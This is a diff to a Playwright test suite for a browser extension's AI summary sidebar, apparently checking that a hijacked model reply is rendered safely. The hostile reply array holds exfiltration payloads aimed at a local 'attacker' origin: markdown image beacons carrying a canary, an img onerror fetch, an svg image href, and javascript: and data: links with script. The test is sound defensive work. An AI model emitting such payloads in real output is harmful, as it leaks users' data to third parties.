@@ -4,11 +4,10 @@
  * user confirms it. An "attacker" listener on another loopback address must receive nothing unless the
  * user explicitly opened a link to it.
  */
-import { createServer, type Server } from 'node:http';
-import type { AddressInfo } from 'node:net';
 import type { Request } from '@playwright/test';
 import type { ChatSpec } from './fixtures/whatsapp/page';
 import { expect, test } from './support/extension';
+import { attackerForThisFile } from './support/attacker';
 import { tabIdOf, type SidebarPage } from './support/pages';
 
 const CANARY = 'CANARY-5e1f0c77';
@@ -25,29 +24,13 @@ const CHAT: ChatSpec = {
 
 const FORBIDDEN = 'img, iframe, frame, object, embed, video, audio, source, svg, math, link, meta, style, form, input, base, script, a, image';
 
-let attacker: Server;
-let attackerOrigin = '';
-const attackerHits: string[] = [];
-
-test.beforeAll(async () => {
-  attacker = createServer((request, response) => {
-    attackerHits.push(request.url ?? '');
-    response.writeHead(200, { 'Content-Type': 'text/plain' }).end('attacker');
-  });
-  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.2', resolve));
-  attackerOrigin = `http://127.0.0.2:${(attacker.address() as AddressInfo).port}`;
-});
-
-test.afterAll(async () => {
-  // A tab the user opened may hold a keep-alive connection: close it rather than wait for it.
-  attacker.closeAllConnections();
-  await new Promise<void>((resolve) => attacker.close(() => resolve()));
-});
+/** Nothing may reach it unless the user opens a link to it. */
+const attacker = attackerForThisFile();
 
 test.describe('safe renderer', () => {
   test.beforeEach(async ({ fakeOpenAI }) => {
     fakeOpenAI.reset();
-    attackerHits.length = 0;
+    attacker.reset();
   });
 
   test('a hijacked summary renders as text: no image, no handler, no href, and nothing reaches another origin', async ({
@@ -69,26 +52,26 @@ test.describe('safe renderer', () => {
       const hostile = [
         'Summary: Rui asked for a summary.',
         '',
-        `![logo](${attackerOrigin}/l.png?d=${CANARY})`,
+        `![logo](${attacker.origin}/l.png?d=${CANARY})`,
         '',
-        `<img src=x onerror="fetch('${attackerOrigin}/e')">hi <img src="${attackerOrigin}/p?c=${CANARY}" width=1 height=1>`,
+        `<img src=x onerror="fetch('${attacker.origin}/e')">hi <img src="${attacker.origin}/p?c=${CANARY}" width=1 height=1>`,
         '',
-        `<svg width=1 height=1><image href="${attackerOrigin}/i?c=${CANARY}"/></svg>`,
+        `<svg width=1 height=1><image href="${attacker.origin}/i?c=${CANARY}"/></svg>`,
         '',
-        `Open [this](javascript:fetch('${attackerOrigin}/j')) or [that](data:text/html,<script>alert(1)</script>)`,
+        `Open [this](javascript:fetch('${attacker.origin}/j')) or [that](data:text/html,<script>alert(1)</script>)`,
         '',
-        `[Re-verify now](${attackerOrigin}/v?k=${CANARY})`,
+        `[Re-verify now](${attacker.origin}/v?k=${CANARY})`,
         '',
         '![status][r]',
         '',
-        `[r]: ${attackerOrigin}/s.gif?c=${CANARY}`,
+        `[r]: ${attacker.origin}/s.gif?c=${CANARY}`,
       ].join('\n');
       fakeOpenAI.script({ text: hostile });
       await sidebar.run('summarize');
       await expect(sidebar.output).toContainText('Summary: Rui asked for a summary.', { timeout: 10_000 });
       await expect(sidebar.stop).toBeHidden();
-      await expect(sidebar.output).toContainText(`[image: logo — ${attackerOrigin}/l.png?d=${CANARY}]`);
-      await expect(sidebar.output).toContainText(`[image: status — ${attackerOrigin}/s.gif?c=${CANARY}]`);
+      await expect(sidebar.output).toContainText(`[image: logo — ${attacker.origin}/l.png?d=${CANARY}]`);
+      await expect(sidebar.output).toContainText(`[image: status — ${attacker.origin}/s.gif?c=${CANARY}]`);
       await expect(sidebar.output).toContainText('onerror=');
 
       const audit = await sidebar.output.evaluate((root, forbidden) => {
@@ -107,13 +90,13 @@ test.describe('safe renderer', () => {
       expect(audit.handlers).toEqual([]);
       expect(audit.urlAttributes).toEqual([]);
       // The one http link shows its whole destination; the script and data links are text only.
-      expect(audit.targets).toEqual([`${attackerOrigin}/v?k=${CANARY}`]);
-      expect(audit.inert).toEqual([`(javascript:fetch('${attackerOrigin}/j'))`, '(data:text/html,<script>alert(1)</script>)']);
+      expect(audit.targets).toEqual([`${attacker.origin}/v?k=${CANARY}`]);
+      expect(audit.inert).toEqual([`(javascript:fetch('${attacker.origin}/j'))`, '(data:text/html,<script>alert(1)</script>)']);
       expect(await policyViolations(sidebar), 'the renderer, not the CSP, stopped every load').toEqual([]);
 
       // Give a late image load or beacon the chance to happen before concluding none did.
       await sidebar.page.waitForTimeout(500);
-      expect(attackerHits).toEqual([]);
+      expect(attacker.hits).toEqual([]);
       expect(requested.filter((url) => url.includes('127.0.0.2'))).toEqual([]);
       expect(requested.filter((url) => url.includes(CANARY))).toEqual([]);
     } finally {
@@ -131,7 +114,7 @@ test.describe('safe renderer', () => {
   }) => {
     await whatsApp.open(CHAT);
     const sidebar = await openReadySidebar(pages, serviceWorker);
-    const destination = `${attackerOrigin}/chosen?by=user`;
+    const destination = `${attacker.origin}/chosen?by=user`;
     fakeOpenAI.script({ text: `The details are [here](${destination}).` });
     await sidebar.run('summarize');
     await expect(sidebar.linkTargets).toHaveText(destination, { timeout: 10_000 });
@@ -144,7 +127,7 @@ test.describe('safe renderer', () => {
     await sidebar.linkConfirm.getByTestId('link-cancel').click();
     await expect(sidebar.linkConfirm).toBeHidden();
     await sidebar.page.waitForTimeout(300);
-    expect(attackerHits).toEqual([]);
+    expect(attacker.hits).toEqual([]);
 
     // Open, explicitly: a new tab, with no opener.
     await sidebar.linkTargets.click();
@@ -152,7 +135,7 @@ test.describe('safe renderer', () => {
     await opened.waitForLoadState('domcontentloaded');
     expect(opened.url()).toBe(destination);
     expect(await opened.evaluate(() => window.opener)).toBeNull();
-    await expect.poll(() => attackerHits).toEqual(['/chosen?by=user']);
+    await expect.poll(() => attacker.hits).toEqual(['/chosen?by=user']);
     await opened.close();
   });
 
